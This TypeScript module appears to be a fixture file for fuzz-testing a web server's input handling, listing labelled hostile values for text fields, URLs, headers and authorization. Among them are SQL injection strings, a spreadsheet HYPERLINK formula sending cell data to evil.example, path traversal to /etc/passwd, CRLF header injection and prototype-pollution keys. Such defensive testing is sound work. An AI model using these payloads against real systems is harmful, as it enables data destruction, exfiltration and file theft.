/**
 * What an attacker sends: the values of the fuzz test, each with a label that the failure list prints.
 * JSON values go into bodies as they are; URL values are already percent-encoded (an attacker writes the
 * bytes, not a string: `%ED%A0%80` is a lone surrogate in UTF-8, `%E0%A4%A` an escape that does not decode).
 */
export interface Hostile {
  label: string;
  value: unknown;
}

const b64 = (bytes: string | number[]) =>
  (typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : Buffer.from(bytes)).toString('base64');

export const HOSTILE_TEXT: readonly Hostile[] = [
  { label: 'NUL inside text', value: 'ab\u0000cd' },
  { label: 'NUL alone', value: '\u0000' },
  { label: 'lone high surrogate', value: 'x\uD800y' },
  { label: 'lone low surrogate', value: '\uDFFF' },
  { label: 'C0 control (ESC)', value: 'a\u001b[31mred' },
  { label: '10,000 characters', value: 'A'.repeat(10_000) },
  { label: '__proto__', value: '__proto__' },
  { label: 'constructor', value: 'constructor' },
  { label: 'toString', value: 'toString' },
  { label: 'SQL: OR 1=1', value: "' OR 1=1 --" },
  { label: 'SQL: drop table', value: "'); drop table person; --" },
  { label: 'formula: HYPERLINK', value: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
  { label: 'formula: +1', value: '+1' },
  { label: 'formula: @SUM', value: '@SUM(1)' },
  { label: 'formula: tab', value: '\t=1+1' },
  { label: 'percent escapes as text', value: '%00%E0%A4%A' },
  { label: 'path traversal', value: '../../etc/passwd' },
  { label: 'empty', value: '' },
  { label: 'spaces', value: '   ' },
  { label: 'number out of range as text', value: '1e308' },
  { label: 'NaN as text', value: 'NaN' },
  { label: 'year 0', value: '0000-01-01' },
  { label: 'no such day', value: '2024-02-30' },
  { label: 'far future date', value: '275760-09-13' },
  { label: 'nil uuid', value: '00000000-0000-0000-0000-000000000000' },
  { label: 'max uuid', value: 'ffffffff-ffff-ffff-ffff-ffffffffffff' },
];

export const HOSTILE_NUMBERS: readonly Hostile[] = [
  { label: '1e308', value: 1e308 },
  { label: '-1e308', value: -1e308 },
  { label: '-1', value: -1 },
  { label: '0', value: 0 },
  { label: '2^53', value: 2 ** 53 },
  { label: '2^31', value: 2 ** 31 },
  { label: 'fraction', value: 1.5 },
  { label: 'NaN as text', value: 'NaN' },
  { label: 'Infinity as text', value: 'Infinity' },
];

export const WRONG_TYPES: readonly Hostile[] = [
  { label: 'object', value: {} },
  { label: 'array', value: [] },
  { label: 'array of null', value: [null] },
  { label: 'true', value: true },
  { label: 'null', value: null },
  { label: 'number', value: 7 },
  { label: 'nested __proto__', value: JSON.parse('{"__proto__":{"polluted":true}}') },
  { label: 'deep nesting', value: JSON.parse(`${'['.repeat(200)}${']'.repeat(200)}`) },
];

/** Keys added to objects: prototype pollution and inherited names. */
export const HOSTILE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'prototype',
  'toString',
];

/** Raw, already percent-encoded values for path segments, query strings and form bodies. */
export const HOSTILE_URL_TEXT: readonly Hostile[] = [
  { label: '%00', value: '%00' },
  { label: 'NUL inside', value: 'a%00b' },
  { label: 'lone surrogate (UTF-8 bytes)', value: '%ED%A0%80' },
  { label: 'invalid UTF-8 byte', value: '%FF%FE' },
  { label: 'truncated escape', value: '%E0%A4%A' },
  { label: 'lone percent', value: '%' },
  { label: 'C0 control', value: '%1B%5B31m' },
  { label: '10,000 characters', value: 'A'.repeat(10_000) },
  { label: '__proto__', value: '__proto__' },
  { label: 'constructor', value: 'constructor' },
  { label: 'SQL: OR 1=1', value: encodeURIComponent("' OR 1=1 --") },
  { label: 'SQL: drop table', value: encodeURIComponent("'); drop table person; --") },
  { label: 'formula', value: encodeURIComponent('=HYPERLINK("http://evil.example","x")') },
  { label: 'formula @', value: encodeURIComponent('@SUM(1)') },
  { label: '-1', value: '-1' },
  { label: '1e308', value: '1e308' },
  { label: 'NaN', value: 'NaN' },
  { label: 'huge integer', value: '99999999999999999999999' },
  { label: 'year 0', value: '0000-01-01' },
  { label: 'no such day', value: '2024-02-30' },
  { label: 'encoded slash traversal', value: '..%2F..%2Fetc%2Fpasswd' },
  { label: 'CRLF', value: '%0D%0AX-Injected:%201' },
  { label: 'nil uuid', value: '00000000-0000-0000-0000-000000000000' },
];

/** Authorization headers a client should never have sent: all must be 400/401, never 500. */
export const BAD_AUTHORIZATION: readonly Hostile[] = [
  { label: 'Basic not base64', value: 'Basic !!!!' },
  { label: 'Basic empty', value: 'Basic ' },
  { label: 'Basic no colon', value: `Basic ${b64('abc')}` },
  { label: 'Basic non-UTF-8', value: `Basic ${b64([0xff, 0xfe, 0x3a, 0x41])}` },
  { label: 'Basic bad percent-escape in id', value: `Basic ${b64('%E0%A4%A:secret')}` },
  { label: 'Basic bad percent-escape in secret', value: `Basic ${b64('client:%E0%')}` },
  { label: 'Basic %00 in id', value: `Basic ${b64('a%00b:secret')}` },
  { label: 'Basic NUL in id', value: `Basic ${b64('a\u0000b:secret')}` },
  { label: 'Basic lone surrogate', value: `Basic ${b64('%ED%A0%80:x')}` },
  { label: 'Basic __proto__', value: `Basic ${b64('__proto__:constructor')}` },
  { label: 'Basic 10,000 characters', value: `Basic ${b64(`${'A'.repeat(7_500)}:x`)}` },
  { label: 'Basic bad padding', value: 'Basic YWJj=ZGVm' },
  { label: 'Bearer garbage', value: 'Bearer ' },
  { label: 'Bearer unknown', value: 'Bearer abc.def' },
  { label: 'Bearer long', value: `Bearer ${'x'.repeat(5_000)}` },
  { label: 'Digest', value: 'Digest username="x"' },
  { label: 'latin-1 bytes', value: 'Basic \u00ff\u00fe' },
];

/** Other headers the server reads as data. */
export const BAD_HEADERS: readonly Hostile[] = [
  { label: 'cookie with escapes', value: { cookie: 'himoya_session=%00%ED%A0%80' } },
  { label: 'long cookie', value: { cookie: `himoya_session=${'a'.repeat(8_000)}` } },
  { label: 'accept-language garbage', value: { 'accept-language': '__proto__;q=NaN, constructor' } },
  { label: 'purpose garbage', value: { 'x-himoya-purpose': '__proto__' } },
  { label: 'csrf garbage', value: { 'x-csrf-token': '\u00ff'.repeat(300) } },
  { label: 'request id garbage', value: { 'x-request-id': '../../x' } },
  { label: 'content-type charset', value: { 'content-type': 'application/json; charset=utf-7' } },
];
